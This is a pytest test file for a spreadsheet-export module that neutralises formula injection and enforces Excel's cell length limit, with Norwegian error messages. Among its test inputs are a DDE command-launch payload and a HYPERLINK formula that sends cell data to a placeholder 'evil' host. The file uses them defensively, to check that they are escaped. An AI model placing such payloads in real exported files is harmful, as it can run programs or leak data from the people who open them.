"""samarbeid.core.cells: formulas defined once, neutralised on every output, Excel's cell limit."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.formula import ArrayFormula

from samarbeid.core import cells
from samarbeid.rules import values

# --- what counts as a formula --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "char"),
    [
        ("=1+2", "="),
        ("+cmd|' /C calc'!A0", "+"),
        ("-2+3", "-"),
        ("@SUM(1+1)", "@"),
        ("-5", None),
        ("+47 22 33 44 55", None),
        ("-6,2", None),
        ("25 %", None),
        ("-", None),
        ("+", None),
        ("Numedal", None),
        ("'=1+2", None),
        ("\t=1+1", None),  # input text is trimmed before it is checked
        ("", None),
    ],
)
def test_input_rule_is_unchanged(text: str, char: str | None) -> None:
    assert cells.looks_like_formula(text) == char
    assert values.looks_like_formula(text) == char  # the validator's name for the same rule


@pytest.mark.parametrize(
    "text",
    [
        "=1+2",
        '=HYPERLINK("http://evil/?l="&A2,"x")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "\tplain",
        " =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\n@SUM(A1)",
    ],
)
def test_output_rule_catches_what_a_spreadsheet_would_run(text: str) -> None:
    assert cells.is_formula_like(text)
    assert cells.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "+47", " -5", "Drammen", "a=b", "", "'", "''"])
def test_output_rule_leaves_numbers_and_text(text: str) -> None:
    assert not cells.is_formula_like(text)
    assert cells.neutralise(text) == text


@pytest.mark.parametrize(
    ("stored", "written"),
    [
        ("=1+2", "'=1+2"),
        ("'=1+2", "''=1+2"),
        ("''=1+2", "'''=1+2"),
        ("'text", "'text"),
        ("'-5", "'-5"),
    ],
)
def test_apostrophes_are_counted_so_a_round_trip_is_exact(stored: str, written: str) -> None:
    assert cells.neutralise(stored) == written
    assert cells.unescape(written) == stored
    assert values.neutralise_formula(stored) == written
    assert values.unescape_formula(written) == stored


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r 5a\u200b%,")) | st.text())
def test_neutralise_and_unescape_are_inverse_and_never_live(text: str) -> None:
    written = cells.neutralise(text)
    assert cells.unescape(written) == text
    assert not cells.is_formula_like(written)


# --- xlsx ----------------------------------------------------------------------------------------

LIVE_START = tuple("=+-@\t\r")


def _xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") or name == "xl/sharedStrings.xml"
        )


def test_a_formula_put_past_the_writers_is_saved_as_neutralised_text() -> None:
    book = cells.new_workbook()
    sheet = book.active
    sheet["A1"] = "=1+2"  # openpyxl makes this a formula cell
    sheet["A2"] = ArrayFormula("A2:A2", "=SUM(B1:B2)")
    sheet["A3"] = "#N/A"  # openpyxl makes this an error cell
    sheet["A4"] = "-2+3"
    data = cells.save_workbook(book)
    assert "<f>" not in _xml(data) and "<f " not in _xml(data)
    loaded = openpyxl.load_workbook(io.BytesIO(data))
    got = [c.value for c in loaded.active["A"]]
    assert got == ["'=1+2", "'=SUM(B1:B2)", "#N/A", "'-2+3"]
    assert all(c.data_type == "s" for c in loaded.active["A"])


def test_put_and_append_neutralise_exactly_once() -> None:
    book = cells.new_workbook()
    cells.append(book.active, ["=1+2", "'=1+2", -5, "-5", None, "Drammen"])
    cells.put(book.active, 2, 1, "@SUM(1)")
    loaded = openpyxl.load_workbook(io.BytesIO(cells.save_workbook(book)))
    rows = list(loaded.active.iter_rows(values_only=True))
    assert rows[0] == ("'=1+2", "''=1+2", -5, "-5", None, "Drammen")
    assert rows[1][0] == "'@SUM(1)"


def test_strict_workbook_refuses_a_too_long_text_and_writes_nothing(tmp_path: Path) -> None:
    book = cells.new_workbook(strict=True, empty=True)
    sheet = book.create_sheet("Ordninger")
    cells.append(sheet, ["id", "beskrivelse"])
    with pytest.raises(cells.CellRefused) as refused:
        cells.append(sheet, ["A1", "x" * (cells.EXCEL_MAX_CHARS + 1)])
    assert refused.value.code == "too_long"
    assert refused.value.message() == (
        "ark Ordninger, celle B2: teksten har 32768 tegn, men en celle i Excel rommer høyst "
        "32767. Filen ble ikke skrevet; bruk formatet csv eller json, som ikke har noen grense."
    )
    assert "sheet Ordninger, cell B2" in refused.value.message("en")
    assert not (tmp_path / "out.xlsx").exists()


def test_the_limit_counts_the_apostrophe() -> None:
    book = cells.new_workbook(strict=True)
    cells.append(book.active, ["x" * cells.EXCEL_MAX_CHARS])  # exactly the limit: fine
    with pytest.raises(cells.CellRefused):
        cells.append(book.active, ["=" + "x" * (cells.EXCEL_MAX_CHARS - 1)])
    loaded = openpyxl.load_workbook(io.BytesIO(cells.save_workbook(book)))
    assert len(loaded.active["A1"].value) == cells.EXCEL_MAX_CHARS


def test_strict_workbook_refuses_a_control_character() -> None:
    book = cells.new_workbook(strict=True)
    with pytest.raises(cells.CellRefused) as refused:
        cells.put(book.active, 3, 2, "a\x01b")
    assert refused.value.code == "control" and refused.value.cell == "B3"
    assert "U+0001" in refused.value.message()


def test_other_workbooks_write_a_long_text_in_full_elsewhere() -> None:
    text = "=" + "".join(f"{i:06d} " for i in range(12000))  # 84 001 characters
    book = cells.new_workbook()
    book.active.title = "Innhold"
    cells.append(book.active, ["tittel", text, "a\x02b"])
    loaded = openpyxl.load_workbook(io.BytesIO(cells.save_workbook(book)))
    cell = loaded["Innhold"]["B1"].value
    assert len(cell) <= cells.EXCEL_MAX_CHARS
    assert cell.startswith("'=000000 ")
    assert "hele teksten (84001 tegn) står i arket «Lange tekster», rad 2–4" in cell
    parts = list(loaded[cells.LONG_TEXT_SHEET].iter_rows(min_row=2, values_only=True))
    assert [(p[0], p[1]) for p in parts] == [
        ("'Innhold'!B1", 1),
        ("'Innhold'!B1", 2),
        ("'Innhold'!B1", 3),
    ]
    assert parts[1][2][0] not in "=+-@'"  # parts end where the next does not start a formula
    assert "".join(cells.unescape(p[2]) for p in parts) == text
    assert loaded["Innhold"]["C1"].value == "a\ufffdb"


def test_a_long_text_of_formula_characters_is_kept_whole_too() -> None:
    text = "=" * 70000  # no part can start with anything but "="
    book = cells.new_workbook()
    cells.append(book.active, [text])
    loaded = openpyxl.load_workbook(io.BytesIO(cells.save_workbook(book)))
    parts = [p[2] for p in loaded[cells.LONG_TEXT_SHEET].iter_rows(min_row=2, values_only=True)]
    assert all(p.startswith("'=") for p in parts)  # each part neutralised on its own
    assert "".join(cells.unescape(p) for p in parts) == text


def test_a_text_cut_by_openpyxl_behind_the_writers_back_is_refused() -> None:
    book = cells.new_workbook()
    book.active["A1"] = "x" * 40000  # openpyxl silently keeps 32 767 of them
    with pytest.raises(cells.CellRefused):
        cells.save_workbook(book)


# --- csv -----------------------------------------------------------------------------------------


def test_csv_bytes_neutralise_every_cell() -> None:
    data = cells.csv_bytes([["=1+2", "'=1+2", -5, None, "a\r\nb", "\t=1"], []])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["'=1+2", "''=1+2", "-5", "", "a\r\nb", "'\t=1"], []]
    for row in rows:
        for value in row:
            assert not value.startswith(LIVE_START) or value == "-5"
